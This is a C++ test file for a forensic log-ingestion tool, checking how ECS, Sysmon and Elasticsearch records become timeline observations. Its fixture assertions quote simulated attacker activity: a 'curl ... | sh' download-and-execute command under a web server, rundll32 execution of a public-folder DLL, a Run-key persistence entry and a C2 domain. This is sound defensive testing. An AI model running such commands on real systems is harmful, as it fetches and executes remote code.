#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>

#include "core/ingest/ecs_reader.hpp"
#include "core/time/time.hpp"
#include "tests/support/test_support.hpp"

using namespace casetrail;
using ingest::ReadItem;

namespace {

const std::string k_fixtures = std::string(CASETRAIL_FIXTURES_DIR) + "/ingest/ecs/";

std::vector<ReadItem> read_all(const std::string& path, ingest::ReaderOptions options = {}) {
  if (options.display_path.empty()) options.display_path = std::filesystem::path(path).filename();
  auto reader = ingest::make_ecs_reader(path, options);
  std::vector<ReadItem> items;
  while (auto item = reader->next()) items.push_back(std::move(*item));
  CHECK(reader->bytes_read() == std::filesystem::file_size(path));
  return items;
}

std::string attr(const model::NewObservation& o, const std::string& key) {
  for (const auto& [k, v] : o.attrs) {
    if (k == key) return v;
  }
  return "(none)";
}

}  // namespace

TEST_CASE("an ECS process start keeps process.args as the source lists them", "[ingest]") {
  const auto items = read_all(k_fixtures + "process.ndjson");
  REQUIRE(items.size() == 2);
  REQUIRE(items[0].type == ReadItem::Type::observation);
  CHECK(items[0].place == "process.ndjson:1");
  const model::NewObservation& o = *items[0].observation;
  CHECK(o.kind == model::Kind::process);
  CHECK(o.source.name == "ECS");
  CHECK(o.time_source == "@timestamp");
  CHECK(time::format_utc(o.observed.utc) == "2026-03-02T08:15:30.123456Z");
  CHECK(o.observed.fraction_digits == 6);
  CHECK(o.host == "web01.example.org");
  CHECK(o.host_platform == "linux");
  CHECK(o.account == "www-data");
  CHECK(o.account_sid == "33");
  CHECK(o.techniques == std::vector<std::string>{"T1105", "T1059.004"});
  const auto& p = *o.process;
  CHECK(p.image == "/usr/bin/curl");
  CHECK(p.command_line == "curl -s http://198.51.100.9/x.sh | sh");
  // The source's list, not a split of the command line (which has "| sh").
  CHECK(p.args == std::vector<std::string>{"curl", "-s", "http://198.51.100.9/x.sh"});
  CHECK(p.args_source == "source");
  CHECK(p.pid == 31337);
  CHECK(p.guid == "ent-31337");
  CHECK(p.cwd == "/var/www");
  CHECK(p.hashes == "SHA256=aa11");
  CHECK(p.parent_image == "/usr/sbin/apache2");
  CHECK(p.parent_command_line == "/usr/sbin/apache2 -k start");
  CHECK(p.parent_pid == 1200);
  CHECK(p.parent_guid == "ent-1200");
  CHECK(o.source.fingerprint->size() == 16);
}

TEST_CASE("a Winlogbeat Sysmon document is named as its Windows source with its logon id", "[ingest]") {
  const auto items = read_all(k_fixtures + "process.ndjson");
  const model::NewObservation& o = *items[1].observation;
  CHECK(o.source.name == "Sysmon 1");
  CHECK(o.account == "CORP\\alice");
  CHECK(o.host == "ws03.corp.local");
  CHECK(o.host_platform == "windows");
  CHECK(o.techniques == std::vector<std::string>{"T1218.011"});
  CHECK(attr(o, "rule_name") == "technique_id=T1218.011,technique_name=Rundll32");
  const auto& p = *o.process;
  CHECK(p.logon_id == "0x3e7a1");
  CHECK(p.integrity_level == "Medium");
  // No process.args: split by the Windows rules.
  CHECK(p.args == std::vector<std::string>{"rundll32.exe", "C:\\Users\\Public\\lib.dll,DllRegisterServer"});
  CHECK(p.args_source == "windows");
}

TEST_CASE("ECS authentication, network, DNS, file, registry and library events become their kinds",
          "[ingest]") {
  const auto items = read_all(k_fixtures + "kinds.ndjson");
  REQUIRE(items.size() == 9);
  const auto& logon = *items[0].observation;
  CHECK(logon.kind == model::Kind::logon);
  CHECK(logon.source.name == "Security 4624");
  CHECK(logon.account == "CORP\\admin");
  CHECK(logon.process->logon_id == "0x8f00a");
  CHECK(attr(logon, "event") == "logon");
  CHECK(attr(logon, "logon_type") == "RemoteInteractive");
  CHECK(attr(logon, "source_address") == "198.51.100.20");
  CHECK(attr(logon, "source_port") == "51234");
  CHECK(attr(logon, "logon_process") == "User32 ");
  CHECK(attr(logon, "auth_package") == "Negotiate");

  const auto& failed = *items[1].observation;
  CHECK(attr(failed, "event") == "logon_failed");
  CHECK(failed.account == "bob");

  const auto& network = *items[2].observation;
  CHECK(network.kind == model::Kind::network);
  CHECK(attr(network, "destination_ip") == "203.0.113.7");
  CHECK(attr(network, "destination_port") == "443");
  CHECK(attr(network, "destination_hostname") == "c2.example.net");
  CHECK(attr(network, "protocol") == "tcp");
  CHECK(attr(network, "initiated") == "true");
  CHECK(network.process->pid == 4242);

  const auto& dns = *items[3].observation;
  CHECK(dns.kind == model::Kind::dns);
  CHECK(attr(dns, "query_name") == "c2.example.net");
  CHECK(attr(dns, "query_status") == "NOERROR");
  CHECK(attr(dns, "query_results") == "203.0.113.7;203.0.113.8");
  CHECK_FALSE(dns.process);

  CHECK(items[4].observation->kind == model::Kind::file);
  CHECK(attr(*items[4].observation, "target_filename") == "C:\\Users\\Public\\lib.dll");
  CHECK(items[5].observation->kind == model::Kind::registry);
  CHECK(attr(*items[5].observation, "target_object") ==
        "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x");
  CHECK(attr(*items[5].observation, "details") == "C:\\Users\\Public\\x.exe");
  CHECK(attr(*items[5].observation, "event_type") == "modification");
  CHECK(items[6].observation->kind == model::Kind::image_load);
  CHECK(attr(*items[6].observation, "image_loaded") == "C:\\Users\\Public\\lib.dll");
  CHECK(attr(*items[6].observation, "signed") == "false");
  CHECK(attr(*items[6].observation, "hashes") == "SHA256=bb22");

  CHECK(items[7].type == ReadItem::Type::skipped);
  CHECK(items[7].skipped_source == "ECS heartbeat");
  CHECK(items[8].type == ReadItem::Type::skipped);
  CHECK(items[8].skipped_source == "Sysmon 5");
}

TEST_CASE("an Elasticsearch search response gives its hits' _source documents", "[ingest]") {
  const auto items = read_all(k_fixtures + "search_response.json");
  REQUIRE(items.size() == 2);
  CHECK(items[0].place == "search_response.json hit 1");
  CHECK(items[1].place == "search_response.json hit 2");
  CHECK(items[0].observation->process->command_line == "/bin/sh -c id");
  CHECK(items[1].observation->process->args ==
        std::vector<std::string>{"/bin/sh", "-c", "uname -a"});
  CHECK(items[0].observation->host == "db01");
  // The raw record is the _source object exactly as the file has it.
  const std::string file = test::read_file(k_fixtures + "search_response.json");
  CHECK(file.find(items[0].raw) != std::string::npos);
  CHECK(items[0].raw.substr(0, 1) == "{");
  CHECK(items[0].raw.find("\"_id\"") == std::string::npos);
  // The _id identifies the hit: the same content under another _id is another record.
  CHECK(*items[0].observation->source.fingerprint != *items[1].observation->source.fingerprint);
}

TEST_CASE("a JSON array of ECS documents is read element by element", "[ingest]") {
  const auto items = read_all(k_fixtures + "array.json");
  REQUIRE(items.size() == 2);
  CHECK(items[0].place == "array.json element 1");
  CHECK(items[1].place == "array.json element 2");
  CHECK(time::format_utc(items[1].observation->observed.utc) == "2026-03-02T08:15:31.000000Z");
  CHECK(items[0].raw.substr(0, 1) == "{");
  CHECK(items[0].raw.back() == '}');
}

TEST_CASE("a broken array element is rejected and the rest of the file is not guessed at",
          "[ingest]") {
  test::TempDir dir;
  test::write_file(dir / "a.json",
                   "[{\"@timestamp\":\"2026-03-02T08:00:00Z\",\"host\":{\"name\":\"h\"},"
                   "\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},"
                   "\"process\":{\"executable\":\"/bin/id\"}} {\"x\":1}]");
  const auto items = read_all((dir / "a.json").string());
  REQUIRE(items.size() == 2);
  CHECK(items[0].type == ReadItem::Type::observation);
  CHECK(items[1].type == ReadItem::Type::rejected);
  CHECK(items[1].place == "a.json element 2");
  CHECK(items[1].reason ==
        "malformed JSON: expected ',' or ']' between array elements (the rest of the file is not read)");
}

TEST_CASE("an ECS record without a zone, a host or a time is rejected naming what is missing",
          "[ingest]") {
  test::TempDir dir;
  const std::string start = "\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},"
                            "\"process\":{\"executable\":\"/bin/id\"}";
  test::write_file(dir / "b.ndjson",
                   "{\"@timestamp\":\"2026-03-02 08:00:00\",\"host\":{\"name\":\"h\"}," + start + "}\n" +
                       "{\"@timestamp\":\"2026-03-02T08:00:00Z\"," + start + "}\n" +
                       "{\"host\":{\"name\":\"h\"}," + start + "}\n" +
                       "{\"@timestamp\":\"2026-03-02T08:00:00Z\",\"host\":{\"name\":\"h\"},"
                       "\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},"
                       "\"process\":{\"pid\":\"x1\",\"executable\":\"/bin/id\"}}\n"
                       "[1,2]\n");
  auto items = read_all((dir / "b.ndjson").string());
  REQUIRE(items.size() == 5);
  CHECK(items[0].reason ==
        "ECS: invalid @timestamp \"2026-03-02 08:00:00\": no zone in the time: give --source-tz ZONE");
  CHECK(items[1].reason == "ECS: missing host.name: give --host");
  CHECK(items[2].reason == "ECS: missing @timestamp");
  CHECK(items[3].reason ==
        "ECS: invalid process.pid \"x1\": expected a process id (decimal, or hex with 0x)");
  CHECK(items[4].reason == "not a JSON object");

  ingest::ReaderOptions options;
  options.display_path = "b.ndjson";
  options.host = "fallback";
  auto zone = time::find_zone("UTC");
  options.source_tz = *zone;
  items = read_all((dir / "b.ndjson").string(), options);
  CHECK(items[0].type == ReadItem::Type::observation);
  CHECK(items[0].observation->observed.original == "2026-03-02 08:00:00");
  CHECK(items[1].observation->host == "fallback");
}

TEST_CASE("JSON content is told apart from everything else", "[ingest]") {
  CHECK(ingest::looks_like_json("{\"a\":1}"));
  CHECK(ingest::looks_like_json("\n  [ {\"a\":1} ]"));
  CHECK_FALSE(ingest::looks_like_json("a,b,c\n"));
  CHECK_FALSE(ingest::looks_like_json("<Event/>"));
}

TEST_CASE("one document over many lines is one record, and a broken one is one rejection",
          "[ingest]") {
  test::TempDir dir;
  test::write_file(dir / "one.json",
                   "{\n  \"@timestamp\": \"2026-03-02T08:00:00Z\",\n  \"host\": {\"name\": \"h\"},\n"
                   "  \"event\": {\"category\": [\"process\"], \"type\": [\"start\"]},\n"
                   "  \"process\": {\"executable\": \"/bin/id\"}\n}\n\n");
  auto items = read_all((dir / "one.json").string());
  REQUIRE(items.size() == 1);
  CHECK(items[0].place == "one.json document 1");
  CHECK(items[0].observation->process->image == "/bin/id");
  CHECK(items[0].raw.front() == '{');
  CHECK(items[0].raw.back() == '}');

  test::write_file(dir / "broken.json", "{\"EventID\":\n[]\n");
  items = read_all((dir / "broken.json").string());
  REQUIRE(items.size() == 1);
  CHECK(items[0].type == ReadItem::Type::rejected);
  CHECK(items[0].place == "broken.json document 1");
  CHECK(items[0].raw == "{\"EventID\":\n[]");

  test::write_file(dir / "empty_hits.json", "{\"took\":1,\"hits\":{\"hits\":[]}}\n");
  CHECK(read_all((dir / "empty_hits.json").string()).empty());
}

TEST_CASE("search responses one per line, as curl prints them, give their hits", "[ingest]") {
  test::TempDir dir;
  const std::string response = nlohmann::json::parse(test::read_file(k_fixtures + "search_response.json")).dump();
  test::write_file(dir / "pages.ndjson", response + "\n" + response + "\n");
  const auto items = read_all((dir / "pages.ndjson").string());
  REQUIRE(items.size() == 4);
  CHECK(items[0].place == "pages.ndjson:1 hit 1");
  CHECK(items[3].place == "pages.ndjson:2 hit 2");
  CHECK(items[3].observation->process->command_line == "/bin/sh -c uname -a");
  // The second page repeats the first: same _id, same content, same record.
  CHECK(*items[0].observation->source.fingerprint == *items[2].observation->source.fingerprint);
}
